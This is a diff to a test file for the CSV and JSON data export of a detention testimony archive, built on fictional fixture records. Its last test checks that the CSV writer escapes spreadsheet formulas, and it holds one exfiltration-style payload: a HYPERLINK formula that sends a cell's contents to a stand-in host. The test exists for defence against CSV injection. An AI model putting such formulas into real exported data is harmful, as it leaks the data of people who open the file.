@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
-import { csvLines } from '../../src/core/export/csv.ts';
+import { byteOrderMark, csvLines } from '../../src/core/export/csv.ts';
 import { dataFileNames } from '../../src/core/export/files.ts';
 import { buildDataExport, type DataExport } from '../../src/core/export/index.ts';
 import { csvRecords, parseCsv } from './csv-reader.ts';
@@ -15,7 +15,7 @@ const files = filesOf(exported);
 
 describe('the files of the data export', () => {
 	it('makes exactly the files the routes of /data/ serve, and lists each once with its size and count', () => {
-		expect(Object.keys(files)).toEqual(['archive.json', 'testimonies.csv', 'people.csv', 'camps.csv', 'places.csv', 'organizations.csv', 'sources.csv', 'quotes.csv', 'citations.json', 'README.txt', 'SHA256SUMS']);
+		expect(Object.keys(files)).toEqual(['archive.json', 'testimonies.csv', 'people.csv', 'camps.csv', 'places.csv', 'organizations.csv', 'sources.csv', 'detentions.csv', 'quotes.csv', 'citations.json', 'README.txt', 'SHA256SUMS']);
 		expect(exported.list.map((f) => f.name)).toEqual(dataFileNames);
 		for (const file of exported.list) {
 			expect(file.bytes, file.name).toBe(Buffer.byteLength(files[file.name], 'utf8'));
@@ -29,10 +29,11 @@ describe('the files of the data export', () => {
 			['places.csv', 3, 'rows', 'text/csv; charset=utf-8; header=present'],
 			['organizations.csv', 2, 'rows', 'text/csv; charset=utf-8; header=present'],
 			['sources.csv', 3, 'rows', 'text/csv; charset=utf-8; header=present'],
+			['detentions.csv', 2, 'rows', 'text/csv; charset=utf-8; header=present'],
 			['quotes.csv', 30, 'rows', 'text/csv; charset=utf-8; header=present'],
 			['citations.json', 18, 'records', 'application/json; charset=utf-8'],
 			['README.txt', undefined, undefined, 'text/plain; charset=utf-8'],
-			['SHA256SUMS', 10, 'files', 'text/plain; charset=utf-8'],
+			['SHA256SUMS', 11, 'files', 'text/plain; charset=utf-8'],
 		]);
 	});
 
@@ -46,15 +47,22 @@ describe('the files of the data export', () => {
 });
 
 describe('archive.json', () => {
-	const json = JSON.parse(files['archive.json']) as { archive: string; site: string; counts: Record<string, number>; records: Record<string, Record<string, unknown>[]> };
+	const json = JSON.parse(files['archive.json']) as { archive: string; site: string; license: Record<string, string>; counts: Record<string, number>; records: Record<string, Record<string, unknown>[]>; detentions: Record<string, string>[] };
 
 	it('is the very text JSON.stringify gives for the whole, though it is written a record at a time', () => {
 		expect(files['archive.json']).toBe(`${JSON.stringify(json, null, 2)}\n`);
 	});
 
-	it('names the archive, its address and the number of records of each kind', () => {
+	it('names the archive, its address, its licence and the number of records of each kind', () => {
 		expect(json.archive).toBe('Xinjiang Detention Testimony Archive');
 		expect(json.site).toBe('https://archive.test/');
+		expect(json.license).toEqual({
+			id: 'CC-BY-4.0',
+			name: 'Creative Commons Attribution 4.0 International',
+			url: 'https://creativecommons.org/licenses/by/4.0/legalcode',
+			covers: "The archive’s own text and data (its records, summaries and the links between them, and the files made from them) are published under the Creative Commons Attribution 4.0 International licence (CC-BY-4.0).",
+			excludes: 'Quoted passages and the texts of sources remain the words of their authors and publishers: the archive reproduces them for research and reference, and its licence does not cover them.',
+		});
 		expect(json.counts).toEqual({ testimonies: 3, people: 5, camps: 2, places: 3, organizations: 2, sources: 3 });
 		expect(Object.fromEntries(Object.entries(json.records).map(([kind, list]) => [kind, list.map((r) => r.id)]))).toEqual({
 			testimonies: ['gulnara-testova-on-her-brother', 'mirza-mockov-7th-street', 'testov-mockville-camp'],
@@ -76,6 +84,7 @@ describe('archive.json', () => {
 			kind: 'city',
 			partOf: 'north-testovia',
 			partOfInferred: true,
+			disagreements: [],
 			summary: 'A city of North Testovia with two places of detention.',
 		});
 		expect(json.records.testimonies.find((r) => r.id === 'gulnara-testova-on-her-brother')).toEqual({
@@ -127,7 +136,8 @@ describe('the CSV files', () => {
 
 	it('has a column per field, a group of fields split into columns, and the text last', () => {
 		expect(parseCsv(files['people.csv'])[0]).toEqual(['id', 'permalink', 'name', 'named', 'aliases', 'distinctFrom', 'roles', 'ethnicity', 'citizenship', 'age', 'occupation', 'identity', 'relations', 'detentions', 'events', 'summary']);
-		expect(parseCsv(files['camps.csv'])[0]).toEqual(['id', 'permalink', 'name', 'named', 'aliases', 'distinctFrom', 'kind', 'location.place', 'location.description', 'location.source', 'location.quote', 'location.inferred', 'figures', 'summary']);
+		expect(parseCsv(files['camps.csv'])[0]).toEqual(['id', 'permalink', 'name', 'named', 'aliases', 'distinctFrom', 'kind', 'location.place', 'location.place.name', 'location.description', 'location.reading', 'location.source', 'location.quote', 'location.inferred', 'figures', 'disagreements', 'summary']);
+		expect(parseCsv(files['places.csv'])[0]).toEqual(['id', 'permalink', 'name', 'aliases', 'distinctFrom', 'distinctFrom.names', 'kind', 'partOf', 'partOf.name', 'partOfSource', 'partOfInferred', 'disagreements', 'summary']);
 		expect(parseCsv(files['sources.csv'])[0]).toEqual([
 			'id', 'permalink', 'title', 'standfirst', 'byline', 'authors', 'publisher', 'originalPublisher', 'published', 'url', 'language',
 			'capture.file', 'capture.sha256', 'capture.bytes', 'capture.encoding', 'capture.format', 'capture.added', 'capture.removed', 'related', 'notes', 'text',
@@ -136,21 +146,32 @@ describe('the CSV files', () => {
 
 	it('writes statements as "value (source-id)", spellings with their language, and other groups as "field: value"', () => {
 		const person = csvRecords(files['people.csv']).find((r) => r.id === 'aidarbek-testov')!;
-		expect(person.aliases).toBe('Aydarbek Testow (testwatch-report) | Aydarbek Testow (herald-interview) | Айдарбек Тестов (lang: kk)');
+		expect(person.aliases).toBe('Aydarbek Testow (testwatch-report) | Aydarbek Testow (herald-interview) | Айдарбек Тестов (testwatch-report; lang: kk)');
 		expect(person.roles).toBe('former-detainee | witness');
 		expect(person.ethnicity).toBe('Fictic (herald-interview) | fictic (testwatch-report)');
 		expect(person.age).toBe('41 (herald-interview) | 42 (testwatch-report; note: In January 2020.)');
 		expect(person.identity).toBe('Aydarbek Testow in the Testwatch report (testwatch-report; inferred; note: Same town, same camp, same months.)');
 		expect(person.relations).toBe('person: gulnara-testova; relation: sister; source: herald-interview');
-		expect(person.detentions).toBe('camp: mockville-camp-no-1; start: 2018-03-05; end: 2018-11; duration: eight months; source: herald-interview');
+		// Dates the quote does not give say they are inferred, and how.
+		expect(person.detentions).toBe(
+			'camp: mockville-camp-no-1; start: 2018-03-05 (inferred; basis: the interview says he was taken from his home on 5 March 2018); end: 2018-11 (inferred; basis: his sister writes that he came home in November 2018); duration: eight months; source: herald-interview',
+		);
 		expect(person.events).toBe('date: 2018-03-05; text: Taken from his home in Mockville.; source: herald-interview | date: 2019-01; text: Left Fictistan.; source: herald-interview');
 		expect(person.named).toBe('true');
 		expect(person.citizenship).toBe('');
 		const camp = csvRecords(files['camps.csv']).find((r) => r.id === 'mockville-camp-no-1')!;
 		expect(camp['location.place']).toBe('mockville');
+		expect(camp['location.place.name']).toBe('Mockville');
+		expect(csvRecords(files['places.csv']).find((r) => r.id === 'mockville')).toMatchObject({ partOf: 'north-testovia', 'partOf.name': 'North Testovia' });
+		expect(csvRecords(files['places.csv']).find((r) => r.id === 'fictistan')).toMatchObject({ partOf: '', 'partOf.name': '' });
 		expect(camp['location.quote']).toBe('which stands on the road north of Mockville');
 		expect(camp['location.inferred']).toBe('false');
-		expect(camp.figures).toBe('what: people held; value: 3,000; date: spring 2018; reportedBy: mockville-camp-guard; source: herald-interview | what: people held; value: 5,000; date: 2019-03; source: testwatch-report');
+		// The source's words and the archive's own, each in its column.
+		expect(camp['location.description']).toBe('on the road north of Mockville');
+		expect(camp['location.reading']).toBe('');
+		const seventh = csvRecords(files['camps.csv']).find((r) => r.id === '7th-street-detention-centre')!;
+		expect([seventh['location.description'], seventh['location.reading'], seventh['location.inferred']]).toEqual(['', '7th Street, Mockville', 'true']);
+		expect(camp.figures).toBe('what: people held; value: three thousand; reading: 3,000; date: spring 2018; reportedBy: mockville-camp-guard; source: herald-interview | what: people held; value: 5,000; date: 2019-03; source: testwatch-report');
 		const testimony = csvRecords(files['testimonies.csv']).find((r) => r.id === 'testov-mockville-camp')!;
 		expect(testimony.disagreements).toBe('topic: Age; claims: 41 (herald-interview) / 42 (testwatch-report); note: The interview and the report are ten months apart.');
 		expect(csvRecords(files['testimonies.csv']).find((r) => r.id === 'mirza-mockov-7th-street')!['period.start']).toBe('early 2018');
@@ -178,7 +199,7 @@ describe('SHA256SUMS', () => {
 	it('gives, in name order, a line per other file that verifies it', () => {
 		const lines = files.SHA256SUMS.split('\n');
 		expect(lines.pop()).toBe('');
-		expect(lines.map((l) => l.slice(66))).toEqual(['README.txt', 'archive.json', 'camps.csv', 'citations.json', 'organizations.csv', 'people.csv', 'places.csv', 'quotes.csv', 'sources.csv', 'testimonies.csv']);
+		expect(lines.map((l) => l.slice(66))).toEqual(['README.txt', 'archive.json', 'camps.csv', 'citations.json', 'detentions.csv', 'organizations.csv', 'people.csv', 'places.csv', 'quotes.csv', 'sources.csv', 'testimonies.csv']);
 		for (const line of lines) {
 			const match = /^([0-9a-f]{64}) {2}(\S+)$/.exec(line);
 			expect(match, line).not.toBeNull();
@@ -205,7 +226,7 @@ describe('README.txt', () => {
 	});
 
 	it('names every column of every CSV file under its heading', () => {
-		for (const name of ['testimonies.csv', 'people.csv', 'camps.csv', 'places.csv', 'organizations.csv', 'sources.csv', 'quotes.csv']) {
+		for (const name of ['testimonies.csv', 'people.csv', 'camps.csv', 'places.csv', 'organizations.csv', 'sources.csv', 'detentions.csv', 'quotes.csv']) {
 			const part = section(`${name}\n${'-'.repeat(name.length)}\n`);
 			for (const column of parseCsv(files[name])[0]) expect(part, `${name}: ${column}`).toContain(`\n  ${column}\n`);
 		}
@@ -282,7 +303,18 @@ describe('the CSV writer', () => {
 			['“curly”', 'Қазақ', ' space ', 'a | b', 'crlf\r\ninside'],
 		];
 		const text = [...csvLines(rows)].join('');
-		expect(text.split('\r\n')[0]).toBe('plain,"with, comma","with ""quotes""","two\nlines",');
+		expect(text.split('\r\n')[0]).toBe(`${byteOrderMark}plain,"with, comma","with ""quotes""","two\nlines",`);
 		expect(parseCsv(text)).toEqual(rows);
+	});
+
+	it('begins a file with the byte-order mark that tells a spreadsheet it is UTF-8, once', () => {
+		const text = [...csvLines([['Қазақ']], [['ü']])].join('');
+		expect(text).toBe('\uFEFFҚазақ\r\nü\r\n');
+		expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+	});
+
+	it('writes an apostrophe before a cell a spreadsheet would run as a formula, and before nothing else', () => {
+		const rows = [['=HYPERLINK("http://x.test/?"&A1,"click")', '+1', '-2', '@SUM(A1)', '\tx', '＝1', 'a=b', '2-3', "'quoted'", '']];
+		expect(parseCsv([...csvLines(rows)].join(''))).toEqual([["'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'＝1", 'a=b', '2-3', "'quoted'", '']]);
 	});
 });
